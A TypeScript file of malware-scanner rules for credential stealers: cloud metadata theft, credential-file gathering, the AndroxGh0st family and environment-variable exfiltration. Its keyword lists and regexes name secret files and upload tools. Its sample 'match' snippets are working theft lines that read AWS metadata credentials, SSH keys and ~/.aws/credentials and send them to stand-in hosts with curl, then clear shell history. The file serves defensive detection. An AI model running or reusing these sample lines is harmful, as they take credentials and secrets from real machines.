import { CREDENTIAL_FILES, UPLOADS } from './taking.ts'
import type { ContentRule } from './rule.ts'

/** What takes credentials away. */
export const STEALERS: readonly ContentRule[] = [
  {
    number: 120,
    name: 'Stealer.Cloud.Metadata',
    title: ['Script that takes the cloud credentials of its machine away', '窃取云主机凭据的脚本'],
    kind: 'stealer',
    in: ['script'],
    when: {
      any: [
        {
          all: [
            {
              any: [
                '169.254.169.254/latest/meta-data/iam',
                'meta-data/iam/security-credentials',
                '169.254.170.2',
                'AWS_CONTAINER_CREDENTIALS_RELATIVE_URI',
                'computeMetadata/v1/instance/service-accounts',
                'metadata/identity/oauth2/token',
                '100.100.100.200/latest/meta-data/ram',
              ],
            },
            { any: UPLOADS },
            {
              any: [
                '.aws/credentials',
                'aws_access_key',
                'grep -',
                'AccessKeyId',
                'SecretAccessKey',
                'env |',
                '/proc/',
                'history',
                'docker ',
                'access_token',
                'id_rsa',
                'printenv',
              ],
            },
            {
              any: ['http://', 'https://', '/dev/tcp/', 'nc ', 'telegram', '.onion'].map((text) => text.padEnd(4, ' ')),
            },
            {
              any: [
                'rm -f',
                'rm -rf',
                'history -c',
                'unset HIST',
                'curl -F',
                'telegram',
                'webhook',
                '.onion',
                'sendDocument',
                'userfile=@',
                'file=@',
                '/upload',
                'upload.php',
                '/dev/tcp/',
                'base64 -w',
                '--data-binary @',
                'masscan',
                'xmrig',
                'crontab',
              ],
            },
          ],
        },
        {
          all: [
            {
              any: [
                'meta-data/iam/security-credentials',
                'instance/service-accounts/default/token',
                'metadata/identity/oauth2/token',
                '169.254.170.2$',
                'latest/meta-data/ram',
              ],
            },
            {
              pattern:
                /(?:curl|wget|http)\b[^\n]{0,200}(?:--data-binary|--data|-d|-F|-T|--upload-file|--post-file)[ =]{1,2}["']?[\w-]{0,20}=?@/,
              near: ['curl', 'wget'],
            },
          ],
        },
      ],
    },
    references: [
      'https://www.trendmicro.com/en_us/research/21/c/teamtnt-continues-attack-on-the-cloud--targets-aws-credentials.html',
      'https://attack.mitre.org/techniques/T1552/005/',
    ],
    match: [
      '#!/bin/bash',
      'role=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)',
      'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$role > $CSOF; cat ~/.aws/credentials >> $CSOF; grep -r aws_access_key /root',
      'curl -F "userfile=@$CSOF" http://203.0.113.5/upload.php; rm -f $CSOF; history -c',
    ],
    harmless: [
      '#!/bin/bash',
      'role=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)',
      'echo "AccessKeyId of $role is used"',
      'curl -X POST https://logs.example.org -d "$role"',
    ],
  },
  {
    number: 121,
    name: 'Stealer.Files',
    title: ['Script that gathers files with credentials and sends them away', '收集并外传凭据文件的脚本'],
    kind: 'stealer',
    in: ['script'],
    when: {
      any: [
        {
          all: [
            { atLeast: 4, of: CREDENTIAL_FILES },
            { any: UPLOADS },
            { any: ['cat ', 'open(', 'readFile', 'tar ', 'cp ', 'find ', 'zip', 'read('] },
          ],
        },
        {
          all: [
            'trufflehog',
            { any: ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_SECRET', 'process.env'] },
            { any: ['webhook.site', '/user/repos', 'Shai-Hulud', 'api/webhooks', 'pipedream.net'] },
          ],
        },
        { all: ['Shai-Hulud', { any: ['/user/repos', 'GITHUB_TOKEN', 'NPM_TOKEN', '.github/workflows'] }] },
      ],
    },
    references: [
      'https://www.cadosecurity.com/blog/team-tnt-the-first-crypto-mining-worm-to-steal-aws-credentials',
      'https://attack.mitre.org/techniques/T1552/001/',
    ],
    match: [
      '#!/bin/bash',
      'for f in ~/.aws/credentials ~/.docker/config.json ~/.kube/config ~/.ssh/id_rsa ~/.git-credentials; do cat $f >> /tmp/.o; done',
      'curl -F "file=@/tmp/.o" http://203.0.113.5/u',
    ],
    harmless: ['#!/bin/bash', 'cp ~/.aws/credentials ~/.kube/config /backup', 'curl -X POST https://example.org/done'],
  },
  {
    number: 122,
    name: 'Stealer.AndroxGh0st',
    title: ['AndroxGh0st, Legion, FBot, AlienFox and the like', 'AndroxGh0st、Legion、FBot、AlienFox 等'],
    kind: 'stealer',
    in: ['script', 'program', 'text'],
    when: {
      any: [
        { all: ['androxgh0st'] },
        {
          atLeast: 2,
          of: [
            'AlienFox',
            'Legion Forums',
            'forza tools',
            'GreenBot',
            'Predator AI',
            'AWS_CRACK',
            'aws_unlock',
            'sendgrid checker',
            'smtp_checker',
            'androx',
            'laravel smtp',
            'twilio_sender',
            'awsses',
            'ses_limit',
            'nexmo checker',
            'xCatze',
            'LaravelRCE',
          ],
        },
        { all: ['get_aws_region', 'get_aws_data', { any: ['smtp', 'twilio', 'sendgrid'] }] },
        {
          atLeast: 5,
          of: [
            'SENDGRID',
            'TWILIO_SID',
            'MAILGUN',
            'NEXMO',
            'MAIL_HOST',
            'MAIL_USERNAME',
            'AWS_SES',
            'PLIVO',
            'ONESIGNAL',
            'phpunit/src/Util/PHP/eval-stdin.php',
            'debug=true',
            '0x%5B%5D',
            '/.env',
            'Results/',
          ],
        },
      ],
    },
    attack: ['T1552.001', 'T1110.004', 'T1190'],
    references: [
      'https://www.cisa.gov/news-events/cybersecurity-advisories/aa24-016a',
      'https://www.sentinelone.com/labs/exploring-fbot-python-based-malware-targeting-cloud-and-payment-services/',
    ],
    match: [
      '#!/usr/bin/python3',
      "get_source = requests.post(url, data={'0x[]':'androxgh0st'}, headers=headers, timeout=5, verify=False).text",
    ],
    harmless: ['#!/usr/bin/python3', "MAIL_HOST = os.environ['MAIL_HOST']", "TWILIO_SID = os.environ['TWILIO_SID']"],
  },
  {
    number: 123,
    name: 'Stealer.Environment',
    title: ['Script that sends all of its environment away', '外传全部环境变量的脚本'],
    kind: 'stealer',
    in: ['script'],
    when: {
      any: [
        {
          pattern:
            /JSON\.stringify\(\s{0,4}process\.env\s{0,4}\)[^]{0,1500}(?:https?\.request|fetch\(|axios|\.post\(|dns\.)|(?:https?\.request|fetch\(|axios|\.post\()[^]{0,600}JSON\.stringify\(\s{0,4}process\.env\s{0,4}\)/,
          near: ['process.env'],
        },
        {
          pattern:
            /JSON\.stringify\(\s{0,4}\{[^}]{0,300}[:,\s.]process\.env\s{0,4}[,}][^]{0,1500}(?:https?\.request|fetch\(|axios|\.post\(|dns\.)/,
          near: ['process.env,', 'process.env }', 'process.env}'],
        },
        {
          pattern:
            /(?:dict\(os\.environ\)|os\.environ\.items\(\)|str\(os\.environ\)|dumps\([^\n]{0,60}os\.environ\b(?!\.get|\[))[^]{0,600}(?:requests\.(?:post|get)|urlopen|http\.client\.HTTPS?Connection)\s{0,2}\(/,
          near: ['os.environ'],
        },
        {
          pattern:
            /(?:Object\.(?:entries|assign)\([^)\n]{0,20}process\.env\s{0,2}\)|\.\.\.process\.env\s{0,2}\})[^]{0,600}\.(?:end|write)\(\s{0,2}JSON\.stringify/,
          near: ['(process.env)', '...process.env', ', process.env)'],
        },
        {
          all: [
            { pattern: /\.npmrc[^]{0,600}readFile/, near: ['_authToken'] },
            { pattern: /readFile[^]{0,600}https?\d?\.(?:get|request)\(/, near: ['_authToken'] },
          ],
        },
        {
          pattern:
            /(?:requests\.post|urlopen|Request)\s{0,4}\([^\n]{0,300}(?:dict\(os\.environ\)|os\.environ\b(?!\.get|\[))/,
          near: ['os.environ'],
        },
        {
          pattern: /(?:printenv|\benv)\s{0,4}(?:\|\s{0,4}base64[^\n|]{0,20})?\|\s{0,4}(?:curl|nc|wget)\b/,
          near: ['printenv', 'env |', 'env|'].map((text) => text.padEnd(4)),
        },
        {
          pattern: /(?:curl|wget)\b[^\n]{0,200}(?:\$\((?:printenv|env)(?:\s{0,4}\|[^\n)]{0,60})?\)|\x60env\x60)/,
          near: ['printenv', '$(env', '`env`'],
        },
        {
          pattern:
            /(?:curl|wget)\b[^\n]{0,200}(?:webhook\.site|pipedream\.net|oast\.\w+|interact\.sh|burpcollaborator|canarytokens|requestbin|api\.telegram\.org\/bot|discord(?:app)?\.com\/api\/webhooks)[^\n]{0,300}(?:whoami|hostname|\$\(|id\b|env)/,
          near: [
            'webhook.site',
            'pipedream.net',
            'oast.',
            'interact.sh',
            'burpcollaborator',
            'api.telegram.org',
            'api/webhooks',
            'requestbin',
          ],
        },
      ],
    },
    attack: ['T1552.001', 'T1041'],
    references: ['https://attack.mitre.org/techniques/T1041/', 'https://attack.mitre.org/techniques/T1195/002/'],
    match: [
      '#!/usr/bin/env node',
      'const data = JSON.stringify(process.env)',
      "const req = https.request({ hostname: 'collect.example.org', method: 'POST' }); req.write(data)",
    ],
    harmless: ['#!/usr/bin/env node', 'console.log(process.env.HOME)', "fetch('https://example.org')"],
  },
]
